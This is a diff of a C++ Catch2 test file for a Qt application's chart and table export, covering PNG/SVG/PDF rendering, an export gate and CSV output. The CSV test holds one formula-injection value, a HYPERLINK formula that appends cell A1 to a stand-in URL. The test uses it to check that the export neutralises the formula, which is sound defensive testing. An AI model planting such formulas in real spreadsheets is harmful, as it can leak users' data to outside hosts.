@@ -1,4 +1,5 @@
-// Charts export to PNG (at the requested pixel size and DPI), SVG and PDF; tables to CSV.
+// Charts render to PNG (at the requested pixel size and DPI), SVG and PDF; tables of texts save
+// as CSV. What leaves the program through the panels is tested in test_export_gate.
 // The figures are made by hand: 30/60 = 50% with Wilson interval [37.7, 62.3] (computed with
 // z = 1.96: centre (30 + 1.92) / 63.84, half-width 1.96 * sqrt(15 + 0.96) / 63.84).
 #include <catch2/catch.hpp>
@@ -8,9 +9,9 @@
 #include "ui/charts/ChartExporter.h"
 #include "ui/charts/ChartPanel.h"
 #include "ui/charts/ChartStyle.h"
+#include "ui/report/FigureOutlet.h"
 #include "ui/charts/DistributionChartBuilder.h"
 #include "ui/charts/ProportionChartBuilder.h"
-#include "ui/models/IndicatorTableModel.h"
 #include "ui/widgets/TablePanel.h"
 
 #include <QApplication>
@@ -19,7 +20,10 @@
 #include <QFile>
 #include <QFileInfo>
 #include <QImage>
+#include <QSettings>
+#include <QStandardItemModel>
 #include <QTemporaryDir>
+#include <QToolButton>
 
 namespace {
 
@@ -62,24 +66,29 @@ TEST_CASE("the hand-made proportion has the expected interval", "[ui][export]")
     CHECK(p.ci95->upper == Approx(62.3).margin(0.05));
 }
 
-TEST_CASE("a chart panel exports PNG, SVG and PDF", "[ui][export]")
+TEST_CASE("the chart exporter writes PNG, SVG and PDF; a panel without an outlet exports nothing", "[ui][export]")
 {
     const QTemporaryDir dir;
     REQUIRE(dir.isValid());
     ChartPanel panel;
     panel.resize(800, 500);
-    QString error;
-    CHECK_FALSE(panel.exportPng(dir.filePath("leeg.png"), QSize(400, 300), 96, &error));
-    CHECK_FALSE(error.isEmpty());
-
     panel.setChart(sampleBars());
     REQUIRE(panel.chart() != nullptr);
     CHECK(panel.chart()->series().size() == 1);
+    // The screen's chart has the researcher's own figures: without an outlet they cannot leave.
+    CHECK_FALSE(panel.exportButton()->isEnabled());
+    CHECK_FALSE(panel.copyButton()->isEnabled());
+    QString error;
+    CHECK_FALSE(panel.exportTo(ChartFile{ChartFile::Format::Png, dir.filePath("x.png"), QSize(400, 300), 96},
+                               FigureOutlet::SmallNumbers::Protected, &error));
+    CHECK_FALSE(error.isEmpty());
+    CHECK_FALSE(QFileInfo::exists(dir.filePath("x.png")));
+    const auto builder = sampleBars();
 
     SECTION("PNG at the requested size and resolution")
     {
         const QString path = dir.filePath("recidive.png");
-        REQUIRE(panel.exportPng(path, QSize(1200, 700), 192, &error));
+        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Png, path, QSize(1200, 700), 192}, &error));
         const QImage image(path);
         REQUIRE_FALSE(image.isNull());
         CHECK(image.size() == QSize(1200, 700));
@@ -93,35 +102,38 @@ TEST_CASE("a chart panel exports PNG, SVG and PDF", "[ui][export]")
     SECTION("SVG")
     {
         const QString path = dir.filePath("recidive.svg");
-        REQUIRE(panel.exportSvg(path, QSize(800, 500), &error));
+        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Svg, path, QSize(800, 500), 96}, &error));
         QFile file(path);
         REQUIRE(file.open(QIODevice::ReadOnly));
         const QByteArray svg = file.readAll();
         CHECK(svg.contains("<svg"));
         CHECK(svg.contains("viewBox=\"0 0 800 500\""));
         CHECK(svg.contains("Nieuw geweld"));   // the category labels are text, not pixels
+        CHECK_FALSE(svg.contains("INTERN"));
     }
 
     SECTION("PDF")
     {
         const QString path = dir.filePath("recidive.pdf");
-        REQUIRE(panel.exportPdf(path, QSize(800, 500), &error));
+        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Pdf, path, QSize(800, 500), 96}, &error));
         CHECK(uitest::readHead(path, 5) == QByteArray("%PDF-"));
         CHECK(QFileInfo(path).size() > 1000);
     }
 
-    SECTION("copy to the clipboard as an image")
+    SECTION("a stamp is drawn as text")
     {
-        QApplication::clipboard()->clear();
-        panel.copyToClipboard();
-        const QImage copied = QApplication::clipboard()->image();
-        REQUIRE_FALSE(copied.isNull());
-        CHECK(pixelsNear(copied, ChartStyle::seriesColor(0)) > 0);
+        const QString path = dir.filePath("intern.svg");
+        REQUIRE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Svg, path, QSize(800, 500), 96}, &error,
+                                      QStringLiteral("INTERN")));
+        QFile file(path);
+        REQUIRE(file.open(QIODevice::ReadOnly));
+        CHECK(file.readAll().contains("INTERN"));
     }
 
     SECTION("an unwritable path is an error, not a crash")
     {
-        CHECK_FALSE(panel.exportPng(dir.filePath("no/such/folder/x.png"), QSize(400, 300), 96, &error));
+        CHECK_FALSE(ChartExporter::toFile(*builder, ChartFile{ChartFile::Format::Png, dir.filePath("no/such/folder/x.png"),
+                                                               QSize(400, 300), 96}, &error));
         CHECK(error.contains(QStringLiteral("x.png")));
     }
 }
@@ -170,19 +182,20 @@ TEST_CASE("a distribution chart renders boxes for present data and survives empt
     CHECK(pixelsNear(image, ChartStyle::seriesFill(0)) > 150);
 }
 
-TEST_CASE("a table panel saves CSV with the table's texts", "[ui][export]")
+TEST_CASE("a table panel of texts (no figures) saves CSV in the spreadsheet dialect of the settings", "[ui][export]")
 {
-    auto indicators = std::make_shared<km::IndicatorSet>();
-    indicators->proportions = {proportion("recidive.nieuw_geweld", 30, 60, 0),
-                               proportion("uitval.trajecten", 5, 20, 3)};
-    IndicatorTableModel model("uitval");
-    model.setIndicators(indicators);
-    REQUIRE(model.rowCount() == 1);
+    // The import's error list is such a table; figure tables have an outlet (test_export_gate).
+    QStandardItemModel model(1, 3);
+    model.setHorizontalHeaderLabels({QStringLiteral("Regel"), QStringLiteral("Waarde"), QStringLiteral("Verwacht")});
+    model.setItem(0, 0, new QStandardItem(QStringLiteral("4")));
+    model.setItem(0, 1, new QStandardItem(QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"klik\")")));
+    model.setItem(0, 2, new QStandardItem(QStringLiteral("een datum; dd-mm-jjjj")));
     TablePanel panel;
     panel.setModel(&model);
+    QSettings().setValue("export/csv", QStringLiteral("nl"));
 
     const QTemporaryDir dir;
-    const QString path = dir.filePath("uitval.csv");
+    const QString path = dir.filePath("fouten.csv");
     QString error;
     REQUIRE(panel.saveCsv(path, &error));
     QFile file(path);
@@ -191,14 +204,14 @@ TEST_CASE("a table panel saves CSV with the table's texts", "[ui][export]")
     CHECK(bytes.startsWith("\xEF\xBB\xBF"));   // BOM: Excel reads UTF-8
     const QStringList lines = QString::fromUtf8(bytes.mid(3)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
     REQUIRE(lines.size() == 2);
-    CHECK(lines[0] == QStringLiteral("Indicator;Numerator;Denominator;Unknown;%;95% CI"));
-    // 5/20 = 25.0%; Wilson 95%: [11.2, 46.9] (computed by hand as above).
-    CHECK(lines[1].startsWith(QStringLiteral("Ended trajectories stopped early;5;20;3;25.0%;11.2 – 46.9")));
+    CHECK(lines[0] == QStringLiteral("Regel;Waarde;Verwacht"));
+    CHECK(lines[1] == QStringLiteral("4;\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"klik\"\")\";\"een datum; dd-mm-jjjj\""));
+    QSettings().remove("export/csv");
 
     // Copy: tab-separated, header first, the whole table when nothing is selected.
     panel.copyToClipboard();
     const QStringList copied = QApplication::clipboard()->text().split(QLatin1Char('\n'), Qt::SkipEmptyParts);
     REQUIRE(copied.size() == 2);
-    CHECK(copied[0].startsWith(QStringLiteral("Indicator\tNumerator\tDenominator")));
-    CHECK(copied[1].startsWith(QStringLiteral("Ended trajectories stopped early\t5\t20\t3")));
+    CHECK(copied[0] == QStringLiteral("Regel\tWaarde\tVerwacht"));
+    CHECK(copied[1].startsWith(QStringLiteral("4\t")));
 }
